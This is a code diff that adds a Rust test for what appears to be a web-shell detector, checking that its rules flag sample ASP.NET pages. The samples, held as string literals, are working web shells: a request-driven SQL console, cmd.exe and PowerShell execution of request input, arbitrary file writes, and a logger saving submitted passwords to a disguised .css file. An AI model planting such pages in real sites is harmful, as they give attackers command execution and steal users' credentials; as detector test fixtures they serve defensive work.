@@ -1339,6 +1339,48 @@ fn stop_28_left_from_the_second_read() {
     );
 }
 
+/// Variants written at stop 28 by a second reader: VB.NET's typed declarations carry the
+/// request as untyped ones do; VB's `Interaction.Shell`, `<WebMethod()>` services, PowerShell's
+/// `RunspaceInvoke`, `My.Computer.FileSystem` writes and `File.AppendAllText` loggers.
+#[test]
+fn stop_28_vb_net_and_other_hosts() {
+    let has = |page: &str, rule: &str| {
+        let h = hits(page);
+        assert!(h.contains(rule), "{rule} not in {h:?} for {page}");
+    };
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim cs As String = Request.Form(\"cs\")\n Dim q As String = Request.Form(\"q\")\n Dim cn As New System.Data.SqlClient.SqlConnection(cs)\n cn.Open()\n Dim cmd As New System.Data.SqlClient.SqlCommand(q, cn)\n Dim r = cmd.ExecuteReader()\nEnd Sub\n</script>\n",
+        "EXRAY_SQL_Console_Flow",
+    );
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim c As String = Request.QueryString(\"c\")\n Microsoft.VisualBasic.Interaction.Shell(\"cmd.exe /c \" & c, AppWinStyle.Hide, True)\nEnd Sub\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "<%@ WebService Language=\"VB\" Class=\"Svc\" %>\nImports System.Web.Services\nPublic Class Svc\n <WebMethod()> Public Function Run(ByVal f As String, ByVal a As String) As String\n  Dim p As New System.Diagnostics.Process()\n  p.StartInfo.FileName = \"cmd.exe\"\n  p.StartInfo.Arguments = \"/c \" & a\n  p.StartInfo.RedirectStandardOutput = True\n  p.Start()\n  Return p.StandardOutput.ReadToEnd()\n End Function\nEnd Class\n",
+        "EXRAY_NET_Process_Start_Cmd",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n RunspaceInvoke ri = new RunspaceInvoke();\n foreach (var o in ri.Invoke(Request.Form[\"ps\"])) Response.Write(o);\n}\n</script>\n",
+        "EXRAY_NET_PowerShell_Runspace",
+    );
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n My.Computer.FileSystem.WriteAllText(Request(\"f\"), Request(\"t\"), False)\nEnd Sub\n</script>\n",
+        "EXRAY_File_Writer_Request",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string u = Request.Form[\"username\"], p = Request.Form[\"password\"];\n System.IO.File.AppendAllText(@\"C:\\inetpub\\logs\\x.css\", u + \":\" + p + \"\\r\\n\");\n}\n</script>\n",
+        "EXRAY_Credential_Logger",
+    );
+    // a typed declaration of the page's own value carries nothing
+    let own = "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim n As String = Request.Form(\"name\")\n Dim c As String = ConfigurationManager.AppSettings(\"tool\")\n System.Diagnostics.Process.Start(c)\n lbl.Text = n\nEnd Sub\n</script>\n";
+    assert!(
+        !hits(own).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(own)
+    );
+}
+
 /// From the twelfth look at applications: lines a developer commented out read and write
 /// nothing; a server probe names `.exec()` in a literal to test an object and runs nothing; a
 /// browser script's XMLHTTP fetches nothing on the server.
